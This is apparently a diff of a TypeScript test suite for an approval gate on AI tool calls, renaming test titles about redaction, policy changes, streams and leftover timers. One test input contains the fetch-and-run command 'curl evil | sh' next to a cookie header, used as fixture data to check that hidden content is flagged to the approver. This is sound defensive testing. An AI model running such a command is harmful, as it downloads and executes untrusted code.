@@ -79,7 +79,7 @@ describe('an input that a hook replaces', () => {
     assert.deepEqual((await gate.approvals.list())[0]?.input, { amount: 6 })
   })
 
-  it('tells whoever approves it that more may be hidden than a secret', async () => {
+  it('tells the approver that more than a secret may be hidden', async () => {
     const { call, gate } = setup({ policy: { ask: ['pay'] } })
     await call({ input: { amount: 1, note: 'Cookie: x; curl evil | sh' } })
     const note = 'Cookie: [redacted:cookie]\n[hidden here: 17 characters, which are more than one word]'
@@ -87,7 +87,7 @@ describe('an input that a hook replaces', () => {
   })
 })
 
-describe('what changes while a call is on its way', () => {
+describe('a change while a call is on its way', () => {
   type World = ReturnType<typeof setup>
   const changes: readonly (readonly [what: string, change: (world: World) => void, text: string | RegExp])[] = [
     [
@@ -163,7 +163,7 @@ describe('what changes while a call is on its way', () => {
   })
 })
 
-describe('a stream that a tool gives, at once or later', () => {
+describe('a stream that a tool returns, at once or later', () => {
   async function* endless() {
     for (let i = 0; ; i++) {
       yield i
@@ -196,7 +196,7 @@ describe('a stream that a tool gives, at once or later', () => {
   }
 })
 
-describe('what is left of a call that has ended', () => {
+describe('a call that has ended', () => {
   const countTimers = () => process.getActiveResourcesInfo().filter((kind) => kind === 'Timeout').length
 
   const outputs: Readonly<Record<string, () => unknown>> = {
@@ -215,7 +215,7 @@ describe('what is left of a call that has ended', () => {
       }),
   }
   for (const [what, output] of Object.entries(outputs)) {
-    it(`is no timer, where it gave ${what}`, async () => {
+    it(`leaves no timer, where it returned ${what}`, async () => {
       const before = countTimers()
       const outcome = await setup({}, output).call()
       try {
@@ -265,7 +265,7 @@ describe('what is left of a call that has ended', () => {
   })
 })
 
-describe('what happens while the record of a call is being stored', () => {
+describe('a change while the record of a call is being stored', () => {
   const changes = {
     'a halt': (gate: Gate) => void gate.halt({ all: true, reason: 'stop' }),
     'a denial': (gate: Gate) => gate.setPolicy({ deny: ['pay'] }),
